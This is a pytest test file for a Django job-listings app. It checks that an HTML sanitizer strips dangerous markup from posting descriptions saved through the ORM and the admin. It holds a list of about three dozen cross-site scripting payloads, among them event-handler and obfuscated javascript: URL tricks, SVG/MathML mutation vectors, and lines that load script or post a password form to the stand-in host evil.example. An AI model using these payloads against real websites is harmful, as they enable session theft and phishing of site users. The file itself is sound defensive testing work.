"""About the role is HTML from companies and importers: whatever path it takes
in (admin, ORM), only a short allow-list of tags and attributes is stored."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from listings.models import Posting
from listings.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, clean_html
from tests.admin_forms import posting_form
from tests.factories import make_company, make_editor, make_posting

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover=alert(1)>hover</p>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://ok.example/" target="_blank" rel="opener">fine link</a>',
]


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_safe(html):
    inspector = Inspector()
    inspector.feed(html)
    for tag, attrs in inspector.tags:
        assert tag in ALLOWED_TAGS, tag
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, attrs)
        if "href" in attrs:
            assert urlsplit(attrs["href"].strip()).scheme in ("http", "https", "mailto"), attrs
            assert attrs["rel"] == LINK_REL
    lowered = html.lower()
    for marker in ("<script", "<svg", "<math", "<iframe", "<style", "<img", "<form", "<input"):
        assert marker not in lowered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_html_drops_every_payload(payload):
    assert_safe(clean_html(payload))
    assert_safe(clean_html(f"<p>Before</p>{payload}<p>After</p>"))


def test_harmless_markup_and_text_survive():
    cleaned = clean_html(
        "<p><strong>Bold</strong> and <em>italic</em></p><ul><li>one</li></ul>"
        '<a href="https://ok.example/" target="_blank">fine link</a>'
    )
    assert "<strong>Bold</strong>" in cleaned and "<li>one</li>" in cleaned
    assert f'<a href="https://ok.example/" rel="{LINK_REL}">fine link</a>' in cleaned


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_gone_after_saving_through_the_orm(payload):
    posting = make_posting(about_role=f"<p>Intro</p>{payload}")
    stored = Posting.objects.get(pk=posting.pk).about_role
    assert_safe(stored)
    assert "Intro" in stored
    posting.about_role = payload
    posting.save()
    assert_safe(Posting.objects.get(pk=posting.pk).about_role)


@pytest.mark.django_db
def test_payloads_are_gone_after_saving_through_the_admin(client):
    client.force_login(make_editor())
    company = make_company()
    everything = "".join(PAYLOADS)
    data = posting_form(company=str(company.pk), title="XSS Intern", about_role=everything)
    assert client.post(reverse("admin:listings_posting_add"), data).status_code == 302
    posting = Posting.objects.get(title="XSS Intern")
    assert_safe(posting.about_role)
    assert "hover" in posting.about_role  # text around the payloads is kept

    for payload in PAYLOADS:
        data = posting_form(posting, about_role=payload)
        url = reverse("admin:listings_posting_change", args=[posting.pk])
        assert client.post(url, data).status_code == 302
        posting.refresh_from_db()
        assert_safe(posting.about_role)


@pytest.mark.django_db
def test_company_about_is_plain_text_shown_escaped(client):
    """Company about is plain text, not HTML: it is escaped when shown, so
    markup in it is displayed as text and never runs."""
    company = make_company(about="<script>alert(1)</script><img src=x onerror=alert(1)>")
    posting = make_posting(company=company)
    for url in (company.get_absolute_url(), posting.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "<img src=x onerror" not in html
